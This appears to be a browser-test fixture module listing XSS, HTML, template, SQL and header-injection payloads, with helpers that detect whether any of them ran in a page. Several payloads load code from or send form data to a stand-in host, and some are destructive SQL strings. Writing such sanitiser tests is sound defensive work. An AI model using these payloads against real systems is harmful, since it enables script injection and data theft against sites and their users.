// What people who mean harm type. Each line tries to leave the place where text belongs: to run something
// (`hit()`), to ask another server (`evil.example`), or to be taken for part of a page, template or statement.

const quick = String.raw;

/** Texts of at most 200 characters. */
export const PAYLOADS = [
  // Elements that run something by themselves.
  quick`<script>hit()</script>`,
  quick`<SCRIPT/x>hit()</SCRIPT >`,
  quick`<script src=//evil.example/x.js></script>`,
  quick`<scr<script>ipt>hit()</scr</script>ipt>`,
  quick`<<script>hit();//<</script>`,
  quick`<script type="module">import("//evil.example/x.mjs")</script>`,
  quick`<img src=x onerror=hit()>`,
  quick`<img src=x onerror="hit()"//`,
  quick`<IMG SRC="x" OnErRoR=hit&#40;&#41;>`,
  quick`<img/src="x"/onerror="hit()">`,
  quick`<img src="//evil.example/pixel.gif">`,
  quick`<img srcset="//evil.example/1x.png 1x" sizes="1px">`,
  quick`<svg onload=hit()>`,
  quick`<svg/onload=hit()//`,
  quick`<svg><script>hit()</script></svg>`,
  quick`<svg><animate onbegin=hit() attributeName=x dur=1s>`,
  quick`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"></svg>`,
  quick`<svg><image href="//evil.example/i.svg"/></svg>`,
  quick`<svg><feImage href="//evil.example/f.png"/></svg>`,
  quick`<svg></p><style><a id="</style><img src=1 onerror=hit()>">`,
  quick`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">`,
  quick`<math href="javascript:hit()">click</math>`,
  quick`<math><annotation-xml encoding="text/html"><img src=x onerror=hit()></annotation-xml></math>`,
  quick`<details open ontoggle=hit()>`,
  quick`<input autofocus onfocus=hit()>`,
  quick`<select autofocus onfocus=hit()>`,
  quick`<body onload=hit()>`,
  quick`<video autoplay><source src=x onerror=hit()></video>`,
  quick`<video poster="//evil.example/p.png"></video>`,
  quick`<audio src=x onerror=hit()>`,
  quick`<marquee onstart=hit()>`,
  quick`<x style="animation:x" onanimationstart=hit()>`,
  quick`<iframe src="javascript:parent.hit()"></iframe>`,
  quick`<iframe srcdoc="<script>parent.hit()</script>"></iframe>`,
  quick`<object data="data:text/html,<script>parent.hit()</script>"></object>`,
  quick`<embed src="//evil.example/e.swf">`,
  quick`<template shadowrootmode=open><script>hit()</script></template>`,
  // Elements that change the page round them.
  quick`<base href="//evil.example/">`,
  quick`<meta http-equiv="refresh" content="0;url=//evil.example/">`,
  quick`<link rel=stylesheet href="//evil.example/x.css">`,
  quick`<link rel=prefetch href="//evil.example/p">`,
  quick`<style>@import "//evil.example/x.css"; body { display: none }</style>`,
  quick`<form action="//evil.example/"><button autofocus>Go on</button>`,
  quick`<button formaction="javascript:hit()">Go on</button>`,
  quick`</form><form action="//evil.example/" method=post><input name=pass>`,
  quick`<a href="javascript:hit()">look</a>`,
  quick`<a href="java&#9;script:hit()">look</a>`,
  quick`<a href="data:text/html,<script>hit()</script>">look</a>`,
  quick`<plaintext>`,
  quick`<img src='//evil.example/?`,
  // Ways out of where text stands.
  quick`"><script>hit()</script>`,
  quick`'><img src=x onerror=hit()>`,
  quick`" onmouseover="hit()" autofocus onfocus="hit()" x="`,
  quick`' autofocus onfocus='hit()`,
  quick`--><script>hit()</script><!--`,
  quick`]]><script>hit()</script>`,
  quick`</textarea><script>hit()</script>`,
  quick`</title><script>hit()</script>`,
  quick`</option></select><img src=x onerror=hit()>`,
  quick`</bdi></dd></dl></main><h1>Closed for ever</h1>`,
  quick`<noscript><p title="</noscript><img src=x onerror=hit()>">`,
  // Text that has been encoded already, or looks as if.
  quick`&lt;script&gt;hit()&lt;/script&gt;`,
  quick`&#60;img src=x onerror=hit()&#62;`,
  quick`%3Cscript%3Ehit()%3C/script%3E`,
  quick`\u003cscript\u003ehit()\u003c/script\u003e`,
  quick`+ADw-script+AD4-hit()+ADw-/script+AD4-`,
  `\u2028<script>hit()</script>\u2029`,
  `\u202e>tpircs/<()tih>tpircs<`,
  `\uff1cscript\uff1ehit()\uff1c/script\uff1e`,
  // Templates, texts with places, statements.
  quick`{{ 7 * 7 }}{% include "icons/mark.svg" %}`,
  quick`{ $number } { "{" } { requests-send } <%= 7 * 7 %>`,
  '${7*7}#{7*7}`hit()`',
  quick`'; DROP TABLE request; --`,
  quick`x' OR '1'='1' UNION SELECT * FROM staff --`,
  quick`%00%0d%0aSet-Cookie: sid=x%0d%0a`,
];

/** Runs in every page before anything else: tells when something of the above did run. */
export function trap() {
  globalThis.hit = () => { globalThis.wasHit = true; };
}

/** What a page is made of: elements and the names of their attributes, without any text. */
export function skeleton(page) {
  return page.evaluate(() => {
    const bones = [...document.querySelectorAll('*')].map((e) => `${e.localName}[${e.getAttributeNames()}]`);
    return { bones, hit: globalThis.wasHit === true };
  });
}
